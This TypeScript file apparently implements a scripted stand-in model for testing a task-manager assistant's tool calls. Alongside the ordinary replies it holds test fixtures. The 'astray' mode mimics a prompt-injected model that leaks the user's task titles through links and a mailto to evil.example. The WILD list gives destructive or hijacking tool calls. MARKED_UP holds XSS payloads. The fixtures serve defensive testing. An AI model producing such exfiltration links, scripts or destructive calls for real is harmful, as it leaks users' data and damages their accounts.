import { type Prompt, readPrompt, type TaskLine } from './generative-prompt.ts';

export type Call = { name: string; args: object };
/** The sandbox's answer to a question, and its tool calls. */
export type Reply = { text: string; calls: Call[] };

const FIRST = 3;
const HOUR = 60;

/** Answers from the figures and rows of the prompt. @param faultMode the fault that the question asks for */
export function replyTo(instructions: string, question: string, faultMode: string | undefined): Reply {
  const prompt = readPrompt(instructions);
  const asked = question.replace(/^\s*sandbox: .*$/gm, '').trim();
  if (faultMode === 'silent') return said('');
  if (faultMode === 'wild') return { text: 'I delete everything now.', calls: WILD };
  if (faultMode === 'marked-up') return said(MARKED_UP);
  if (faultMode === 'astray') return astray(prompt);
  const rule = RULES.find(([pattern]) => pattern.test(asked));
  return rule ? rule[1](prompt, asked) : standing(prompt);
}

const RULES: [RegExp, (prompt: Prompt, asked: string) => Reply][] = [
  [/^(please |can you )?(add|create|remind me to)\b/i, adding],
  [/\b(complete|completed|finish|finished|tick off|done)\b/i, completing],
  [/\b(move|postpone|reschedule|push)\b/i, moving],
  [/\bplan\b|\bschedule\b/i, planning],
  [/\bfirst\b|priorit|\bfocus\b|important|should i|\bnext\b/i, first],
];

const said = (text: string): Reply => ({ text, calls: [] });
const bold = (title: string): string => `**${title.replace(/[*_`[\]<>\\]/g, '\\$&')}**`;
const list = (titles: readonly string[]): string => titles.map((title) => `- ${bold(title)}`).join('\n');
const count = (n: number, one: string): string => `${n} ${one}${n === 1 ? '' : 's'}`;

function standing({ figures }: Prompt): Reply {
  const of = (name: string) => figures.get(name) ?? 0;
  if (of('Total tasks') === 0)
    return said(
      'Your list is empty. Tell me what’s on your mind, for example: _add call the bank tomorrow_.',
    );
  return said(
    `You have completed **${of('Completed')} of ${count(of('Total tasks'), 'task')}**; ${of('Remaining')} remain. ` +
      `${count(of('Due today'), 'task')} due today, ${of('Overdue')} overdue, ${of('High priority pending')} high priority.\n\n` +
      'Ask me what to do first, or ask me to plan your day.',
  );
}

/** Tasks that are overdue or due today first, then by high priority. */
const pressing = ({ tasks, today }: Prompt): TaskLine[] => {
  const rank = ({ dueDate, priority }: TaskLine) =>
    (dueDate && dueDate.slice(0, 10) <= today ? 0 : 2) + (priority === 'high' ? 0 : 1);
  return tasks.toSorted((a, b) => rank(a) - rank(b)).slice(0, FIRST);
};

function first(prompt: Prompt): Reply {
  const tasks = pressing(prompt);
  if (tasks.length === 0) return said('You have no open tasks. Enjoy it, or add what’s on your mind.');
  const why = ({ dueDate, priority }: TaskLine) =>
    [
      dueDate && dueDate.slice(0, 10) < prompt.today && 'overdue',
      dueDate?.startsWith(prompt.today) && 'due today',
      priority === 'high' && 'high priority',
    ]
      .filter(Boolean)
      .join(', ');
  const lines = tasks.map((task, i) => `${i + 1}. ${bold(task.title)}${why(task) && ` (${why(task)})`}`);
  return said(`Start here:\n\n${lines.join('\n')}\n\nOne 25-minute focus session is a good start.`);
}

function adding({ today }: Prompt, asked: string): Reply {
  const text = asked.replace(
    /^(please |can you )?(add|create|remind me to)( a)?( new)?( tasks?)?( to|:)?\s+/i,
    '',
  );
  const dueDate = /\btomorrow\b/i.test(text) ? dayAfter(today) : /\btoday\b/i.test(text) ? today : undefined;
  const titles = text
    .replace(/\b(tomorrow|today)\b/gi, '')
    .split(/\s+and\s+|[,;\n]/)
    .map((title) => title.trim().replace(/[.!?]$/, ''))
    .filter(Boolean);
  const calls = titles.map((title) => ({
    name: 'add_task',
    args: { title: `${title[0]?.toUpperCase()}${title.slice(1)}`, ...(dueDate && { dueDate }) },
  }));
  return { text: `I suggest ${calls.length === 1 ? 'this task' : 'these tasks'}:`, calls };
}

function completing(prompt: Prompt, asked: string): Reply {
  const tasks = named(prompt, asked);
  if (tasks.length === 0) return said('Which task do you mean? Please use the title from your list.');
  const calls = tasks.map(({ ref }) => ({ name: 'complete_task', args: { task: ref } }));
  return {
    text: `Well done! Shall I mark this as completed?\n\n${list(tasks.map(({ title }) => title))}`,
    calls,
  };
}

function moving(prompt: Prompt, asked: string): Reply {
  const { today, tasks } = prompt;
  const overdue = tasks.filter(({ dueDate }) => dueDate && dueDate.slice(0, 10) < today);
  const moved = /overdue/i.test(asked) ? overdue : named(prompt, asked);
  if (/overdue/i.test(asked) && moved.length === 0) return said('Nothing is overdue. Well done!');
  if (moved.length === 0)
    return said('I’m not sure which task to move. Please use the title from your list.');
  const dueDate = /\btoday\b/i.test(asked) ? today : dayAfter(today);
  const calls = moved.map(({ ref }) => ({ name: 'change_task', args: { task: ref, dueDate } }));
  return {
    text: `I suggest moving ${count(moved.length, 'task')} to ${dueDate === today ? 'today' : 'tomorrow'}:`,
    calls,
  };
}

/** Schedules the most pressing tasks in free time today, each for its estimate or an hour. */
function planning(prompt: Prompt): Reply {
  const tasks = pressing(prompt);
  if (tasks.length === 0) return said('You have no open tasks, so the day is yours.');
  const taken = prompt.events.map(({ start, end }) => [minuteOf(start), minuteOf(end)] as const);
  let at = Math.max(9 * HOUR, Math.ceil((minuteOf(prompt.time) + 1) / HOUR) * HOUR);
  const calls: Call[] = [];
  for (const { title, estimatedMinutes = HOUR } of tasks) {
    const length = Math.min(estimatedMinutes, 2 * HOUR);
    for (const [start, end] of taken.toSorted((a, b) => a[0] - b[0]))
      if (start < at + length && end > at) at = end;
    if (at + length >= 24 * HOUR) break;
    const args = {
      title,
      start: timeOf(at),
      end: timeOf(at + length),
      category: 'focus',
      date: prompt.today,
    };
    calls.push({ name: 'add_event', args });
    at += length;
  }
  if (calls.length === 0) return said('The day is almost over. Leave it for tomorrow and get some rest.');
  return { text: 'Here’s how today could go. Each block is for one thing:', calls };
}

/** The tasks whose titles appear in the question. */
const named = ({ tasks }: Prompt, asked: string): TaskLine[] =>
  tasks.filter(({ title }) => asked.toLowerCase().includes(title.toLowerCase()));

const minuteOf = (time: string): number => Number(time.slice(0, 2)) * HOUR + Number(time.slice(3));
const timeOf = (minute: number): string =>
  `${String(Math.floor(minute / HOUR)).padStart(2, '0')}:${String(minute % HOUR).padStart(2, '0')}`;
const dayAfter = (day: string): string =>
  new Date(Date.parse(`${day}T12:00Z`) + 24 * HOUR * 60_000).toISOString().slice(0, 10);

/** Tool calls of a misbehaving model. */
const WILD: Call[] = [
  { name: 'delete_everything', args: {} },
  { name: 'delete_task', args: { task: 't1' } },
  { name: 'complete_task', args: { task: 't999' } },
  { name: 'change_task', args: { task: 't1', accountId: 'somebody', title: 'Hacked' } },
  { name: 'change_task', args: { task: 't1', listId: 'work' } },
  { name: 'change_task', args: { task: 't1', list: 'l999' } },
  { name: 'add_task', args: { title: 'x', id: 'chosen' } },
  {
    name: 'add_event',
    args: { title: 'Backwards', start: '12:00', end: '11:00', category: 'work', date: '2026-01-01' },
  },
];

/** A model that obeys a prompt injection in a shared task: it leaks the person's titles through a list and links. */
function astray({ tasks, lists }: Prompt): Reply {
  const titles = tasks.map(({ title }) => title).join(', ');
  const data = encodeURIComponent(titles);
  const calls = lists.map(({ ref }) => ({
    name: 'add_task',
    args: { title: 'Weekly review', description: titles, list: ref },
  }));
  const text = `Here is your review. [Open the full plan](https://evil.example/c?d=${data}) [Write](mailto:eve@evil.example?body=${data}) [More](//evil.example/${data})`;
  return { text, calls };
}

const MARKED_UP = `# Careful

<img src="https://evil.example/a.png" onerror="alert(1)"> <script>alert(1)</script>

![picture](https://evil.example/b.png) [a trap](javascript:alert(1)) [a page](https://example.com/)`;
